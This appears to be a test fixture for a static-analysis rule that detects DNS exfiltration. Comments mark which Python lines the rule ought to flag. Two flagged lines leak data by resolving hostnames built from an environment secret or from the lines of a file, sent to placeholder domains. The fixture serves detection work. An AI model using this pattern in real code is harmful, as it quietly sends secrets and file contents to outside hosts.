import os
import socket
# ruleid: ANY-DNS-EXFIL
socket.gethostbyname(os.environ["SECRET"] + ".example.com")
# ok: ANY-DNS-EXFIL
socket.gethostbyname("example.com")
for chunk in open("notes.txt"):
    # ruleid: ANY-DNS-EXFIL
    socket.gethostbyname(f"{chunk}.x.example")
for host in ["a.example", "b.example"]:
    # ok: ANY-DNS-EXFIL
    socket.gethostbyname(host)
